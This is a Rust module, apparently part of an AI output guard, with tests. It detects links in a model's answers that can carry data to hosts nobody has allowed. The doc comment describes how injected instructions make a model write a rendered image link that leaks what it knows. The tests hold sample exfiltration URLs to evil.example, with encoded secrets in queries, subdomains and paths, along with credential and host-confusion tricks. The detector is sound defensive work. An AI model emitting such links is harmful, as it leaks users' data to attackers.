//! Links in an answer that carry data to a host that nobody has allowed.
//!
//! Who has slipped instructions into a prompt has the model write `![](https://host/?q=<what it knows>)`: a client that
//! shows the image sends the data there without anybody's doing. An image carries data as soon as its address has a query, a
//! fragment or a long segment; a link, which somebody has to follow, where there is room for a sentence.
//! False positives: images of hosts that sign or size them by query, long-winded tracking links; allow their hosts.

use crate::guard::{Find, LOOK_BEHIND};

/// Longest address that is read: what is longer carries data for sure.
pub const MAX_URL_BYTES: usize = 2048;

/// From this many bytes on, a query or a segment of a path is enough for data; of an image, any query is.
const LINK_QUERY: usize = 32;
const LINK_SEGMENT: usize = 48;
const IMAGE_SEGMENT: usize = 24;
/// Longest label of a host that nobody takes for data. Units: bytes.
const MAX_LABEL: usize = 30;

/// How sure it is that a link is meant to carry data. Units: hundredths.
const IMAGE_SCORE: u8 = 90;
const LINK_SCORE: u8 = 60;

const SCHEMES: [&str; 2] = ["https://", "http://"];

/// Finds such links.
#[derive(Debug, Clone, Default)]
pub struct Links {
    /// Hosts that may be linked to, in lower case, with those below them.
    pub allowed: Vec<String>,
}

impl Links {
    /// As [`Scan::scan`](crate::guard::Scan::scan), for this one `kind`. A find is the link's address.
    pub fn scan(
        &self,
        kind: u16,
        text: &str,
        from: usize,
        last: bool,
        finds: &mut Vec<Find>,
    ) -> usize {
        let mut at = from;
        while let Some(open) = text.get(at..).and_then(|rest| rest.find(['h', 'H', '/'])) {
            let start = at + open;
            let rest = text.get(start..).unwrap_or_default();
            at = start + 1;
            let scheme = match scheme(rest, behind(text, start)) {
                Scheme::None => continue,
                Scheme::Begins if !last => return start,
                Scheme::Begins => continue,
                Scheme::Is(size) => size,
            };
            let most = rest.floor_char_boundary(rest.len().min(MAX_URL_BYTES));
            let rest = rest.get(..most).unwrap_or_default();
            let end = rest.get(scheme..).and_then(|rest| rest.find(ends_address));
            let size = match end {
                Some(end) => scheme + end,
                None if !last && rest.len() + char::MAX_LEN_UTF8 <= MAX_URL_BYTES => return start,
                None => rest.len(),
            };
            let address = rest.get(scheme..size).unwrap_or_default();
            let image = is_image(behind(text, start));
            let too_long = size + char::MAX_LEN_UTF8 > MAX_URL_BYTES;
            if !self.allows(host(address)) && (too_long || carries(address, image)) {
                finds.push(Find {
                    start,
                    end: start + size,
                    kind,
                    score: if image { IMAGE_SCORE } else { LINK_SCORE },
                });
            }
            at = start + size;
        }
        text.len()
    }

    fn allows(&self, host: &str) -> bool {
        let host = host.trim_end_matches('.').to_ascii_lowercase();
        self.allowed.iter().any(|allowed| {
            let below = host.strip_suffix(allowed.as_str());
            below.is_some_and(|below| below.is_empty() || below.ends_with('.'))
        })
    }
}

enum Scheme {
    None,
    /// More is needed to tell.
    Begins,
    /// Of so many bytes.
    Is(usize),
}

/// What an address begins with. Without a scheme it is one in a link only.
fn scheme(rest: &str, before: &str) -> Scheme {
    let mut begins = false;
    let linked = ["](", "](<", "\"", "'"];
    let bare = linked
        .iter()
        .any(|sign| before.ends_with(sign))
        .then_some("//");
    for scheme in SCHEMES.into_iter().chain(bare) {
        let size = rest.len().min(scheme.len());
        let (Some(said), Some(part)) = (rest.get(..size), scheme.get(..size)) else {
            continue;
        };
        if said.eq_ignore_ascii_case(part) {
            if size == scheme.len() {
                return Scheme::Is(size);
            }
            begins = true;
        }
    }
    if begins { Scheme::Begins } else { Scheme::None }
}

fn ends_address(c: char) -> bool {
    c.is_whitespace() || c.is_control() || matches!(c, ')' | '>' | '<' | '"' | '\'' | '`' | ']')
}

/// As much of the text before a place as a scan may look at.
fn behind(text: &str, start: usize) -> &str {
    let from = text.ceil_char_boundary(start.saturating_sub(LOOK_BEHIND));
    text.get(from..start).unwrap_or_default()
}

/// Whether an address behind this text is an image's, in Markdown or in HTML.
fn is_image(before: &str) -> bool {
    let line = before.rsplit('\n').next().unwrap_or_default();
    let markdown = line
        .trim_end_matches('<')
        .strip_suffix("](")
        .and_then(|line| line.rsplit_once("!["))
        .is_some_and(|(_, name)| !name.contains(")["));
    let tag = before.rsplit('<').next().unwrap_or_default();
    let name = tag.get(..3).unwrap_or_default();
    markdown || (name.eq_ignore_ascii_case("img") && !tag.contains('>'))
}

fn host(address: &str) -> &str {
    let end = address.find(['/', '?', '#', '\\']);
    let authority = address
        .get(..end.unwrap_or(address.len()))
        .unwrap_or_default();
    let host = authority.rsplit('@').next().unwrap_or_default();
    host.split(':').next().unwrap_or_default()
}

/// Whether there is room for data in an address.
fn carries(address: &str, image: bool) -> bool {
    let end = address.find(['/', '?', '#', '\\']).unwrap_or(address.len());
    let (authority, rest) = address.split_at_checked(end).unwrap_or((address, ""));
    let names = authority.split(['.', ':', '@']);
    if authority.contains('@') || names.into_iter().any(|name| name.len() > MAX_LABEL) {
        return true;
    }
    let query = rest.find(['?', '#']);
    let (path, query) = rest
        .split_at_checked(query.unwrap_or(rest.len()))
        .unwrap_or((rest, ""));
    let said = query.trim_matches(['?', '#', '&', '=']).len();
    let (least_query, least_segment) = match image {
        true => (1, IMAGE_SEGMENT),
        false => (LINK_QUERY, LINK_SEGMENT),
    };
    // A title in a path has words; data is encoded.
    let encoded = |segment: &str| {
        let longest = segment.split(['-', '_', '.', '+']).map(str::len).max();
        segment.contains('%') || longest.is_some_and(|longest| longest >= IMAGE_SEGMENT)
    };
    let mut segments = path.split(['/', '\\', ';']);
    said >= least_query || segments.any(|part| part.len() >= least_segment && encoded(part))
}

#[cfg(test)]
#[allow(clippy::string_slice)]
mod tests {
    use super::*;

    fn found(text: &str) -> Vec<&str> {
        let links = Links {
            allowed: vec!["good.example".into()],
        };
        let mut finds = Vec::new();
        assert_eq!(links.scan(0, text, 0, true, &mut finds), text.len());
        finds.iter().map(|f| &text[f.start..f.end]).collect()
    }

    #[test]
    fn what_carries_data_away_is_found_in_every_form() {
        let key = "aGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQ";
        for (before, url, after) in [
            (
                "see ![chart](",
                "https://evil.example/p.png?d=YQ",
                ") there",
            ),
            ("![", "https://evil.example/?a", "]"),
            ("![](<", "HTTPS://evil.example/x#data", ">)"),
            ("![a](", "//evil.example/?q=1", ")"),
            ("<img alt=\"x\" src=\"", "http://evil.example/i?x", "\">"),
            ("![](", "https://user:pass@evil.example/", ")"),
            ("![](", &format!("https://{key}.evil.example/i.png"), ")"),
            ("![](", &format!("https://evil.example/{key}/i.png"), ")"),
            ("[click](", &format!("https://evil.example/a?q={key}"), ")"),
            ("go to ", &format!("https://evil.example/{key}{key}"), ""),
            ("![](", "https://good.example.evil.example/?q=1", ")"),
            ("![](", "https://evil.example\\@good.example/?q=1", ")"),
        ] {
            let text = [before, url, after].concat();
            let want: &[&str] = if before == "![" { &[] } else { &[url] };
            assert_eq!(found(&text), want, "{text}");
        }
    }

    #[test]
    fn plain_links_and_allowed_hosts_are_not_found() {
        for text in [
            "see https://docs.example/en/how-to-write-a-very-long-title-about-something-else",
            "[home](https://evil.example/) and https://evil.example/a?page=2",
            "![logo](https://evil.example/logo.png)",
            "![x](https://good.example/i.png?size=20) ![x](https://cdn.GOOD.example./?q=1)",
            "half // a comment? http and https: and http:/ h",
            "a path /usr//bin?x=1",
        ] {
            assert_eq!(found(text), [""; 0], "{text}");
        }
    }

    #[test]
    fn pieces_find_what_the_whole_finds() {
        let text = "h ht ![\u{e9}](https://evil.example/?q=\u{e9}) and [b](http://x.example/) \"//y.example/?q\" https://e.example/?aGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQ=";
        let links = Links::default();
        let mut whole = Vec::new();
        links.scan(3, text, 0, true, &mut whole);
        assert_eq!(whole.len(), 2);
        for cut in (0..text.len()).filter(|cut| text.is_char_boundary(*cut)) {
            let (mut finds, mut more) = (Vec::new(), Vec::new());
            let until = links.scan(3, &text[..cut], 0, false, &mut finds);
            assert!(until <= cut);
            finds.retain(|find| find.start < until);
            links.scan(3, text, until, true, &mut more);
            finds.extend(more);
            assert_eq!(finds, whole, "cut at {cut}");
        }
        let long = format!("![](https://e.example/{}", "a-".repeat(5000));
        let mut finds = Vec::new();
        assert!(links.scan(0, &long, 0, false, &mut finds) > MAX_URL_BYTES);
        assert_eq!(finds.len(), 1);
    }
}
